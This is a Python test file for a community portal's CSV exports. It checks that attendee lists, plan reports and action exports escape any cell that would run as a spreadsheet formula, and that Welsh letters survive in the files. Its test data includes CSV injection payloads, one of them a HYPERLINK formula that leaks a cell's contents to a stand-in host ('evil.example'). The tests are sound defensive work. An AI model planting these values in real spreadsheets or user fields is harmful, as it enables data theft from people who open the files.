"""Every CSV the portal writes is safe to open in a spreadsheet: no cell runs as a formula, and Welsh letters
survive Excel (UTF-8 with a byte-order mark)."""

import csv
import io
from datetime import datetime

import pytest
import time_machine

from clip_tracker import services as clip_services
from clip_tracker.models import Action, Plan, ReportingPeriod, Theme
from communities import services as community_services
from portal.spreadsheet import csv_text, spreadsheet_safe, spreadsheet_unescape
from sessions import services as session_services
from sessions.models import LONDON, SessionSeries
from sessions.recurrence import Recurrence
from tests.factories import make_community, make_person

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1+1"]


def _cells(response) -> list[list[str]]:
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_would_be_a_formula_is_written_as_text(value):
    assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_unescape(spreadsheet_safe(value)) == value


@pytest.mark.parametrize("value", ["Siân", "Ŵyl Ŷd", "1.2", "2026-12-02", "", "a=b", "'quoted"])
def test_ordinary_cells_are_left_alone(value):
    assert spreadsheet_safe(value) == value
    assert spreadsheet_unescape(value) == value


def test_no_cell_of_any_row_starts_with_a_formula_character():
    rows = list(csv.reader(io.StringIO(csv_text(header=["=h"], rows=[FORMULAS]).lstrip("\ufeff"))))
    assert all(cell.startswith("'") for row in rows for cell in row)


def test_the_attendee_list_neutralises_a_hostile_display_name(client, db):
    host = make_person("host@example.org", name="Host")
    attacker = make_person("evil@example.org", name=FORMULAS[0], organisation="=1+2")
    community = make_community(name="Circle", slug="circle", hosts=[host], acting_user=host)
    community_services.community_join(community=community, user=attacker)
    with time_machine.travel(datetime(2026, 11, 20, 9, 0, tzinfo=LONDON), tick=False):
        series = SessionSeries(
            community=community,
            first_start=datetime(2026, 11, 27, 12, 0, tzinfo=LONDON),
            title="Lunch",
            format="in_person",
            location="Cardiff",
        )
        session_services.series_create(series=series, recurrence=Recurrence(), acting_user=host)
        occurrence = series.occurrences.get()
        session_services.rsvp_set(occurrence=occurrence, user=attacker, going=True)
        client.force_login(host)
        rows = _cells(client.get(f"/sessions/{occurrence.pk}/attendees/?format=csv"))
    assert rows[1][0] == "'" + FORMULAS[0] and rows[1][2] == "'=1+2"


def test_the_report_and_action_exports_neutralise_hostile_text(client, db, coordinator):
    plan = Plan.objects.create(
        title="CLIP", starts_on=datetime(2023, 2, 1).date(), ends_on=datetime(2025, 2, 28).date(), is_published=True
    )
    period = ReportingPeriod.objects.create(
        plan=plan,
        is_current=True,
        label="2023–2024",
        starts_on=datetime(2023, 2, 1).date(),
        ends_on=datetime(2024, 2, 29).date(),
        update_deadline=datetime(2024, 2, 15).date(),
    )
    theme = Theme.objects.create(plan=plan, number=1, title="Learning")
    action = Action.objects.create(
        plan=plan,
        theme=theme,
        number="1.1",
        title="-Reduce travel",
        commitment="@everyone learns",
        title_cy="Lleihau teithio ŵ",
    )
    clip_services.action_narrative_compose(
        action=action, period=period, acting_user=coordinator, narrative='=HYPERLINK("http://evil.example","x")'
    )
    client.force_login(coordinator)
    draft = _cells(client.get(f"/clip/report/{period.pk}.csv"))
    assert draft[1][2] == "'-Reduce travel" and draft[1][5].startswith("'=HYPERLINK")
    clip_services.period_publish(period=period, acting_user=coordinator)
    client.logout()
    published = _cells(client.get(f"/clip/report/{period.pk}.csv"))
    assert published == draft
    client.force_login(coordinator)
    actions = _cells(client.get("/clip/actions.csv"))
    assert actions[1][2] == "'-Reduce travel" and actions[1][3] == "Lleihau teithio ŵ"
    assert actions[1][4] == "'@everyone learns"


def test_a_report_published_before_the_fix_is_made_safe_when_downloaded(client, db, coordinator):
    from clip_tracker.models import PublishedReport

    plan = Plan.objects.create(
        title="CLIP", starts_on=datetime(2023, 2, 1).date(), ends_on=datetime(2025, 2, 28).date(), is_published=True
    )
    period = ReportingPeriod.objects.create(
        plan=plan,
        is_current=True,
        label="old",
        starts_on=datetime(2023, 2, 1).date(),
        ends_on=datetime(2024, 2, 29).date(),
        update_deadline=datetime(2024, 2, 15).date(),
        published_at=datetime(2024, 3, 1, tzinfo=LONDON),
    )
    PublishedReport.objects.create(
        period=period, language="en", format="csv", content="theme,number,progress\r\n1,1.1,=1+1\r\n"
    )
    rows = _cells(client.get(f"/clip/report/{period.pk}.csv"))
    assert rows == [["theme", "number", "progress"], ["1", "1.1", "'=1+1"]]
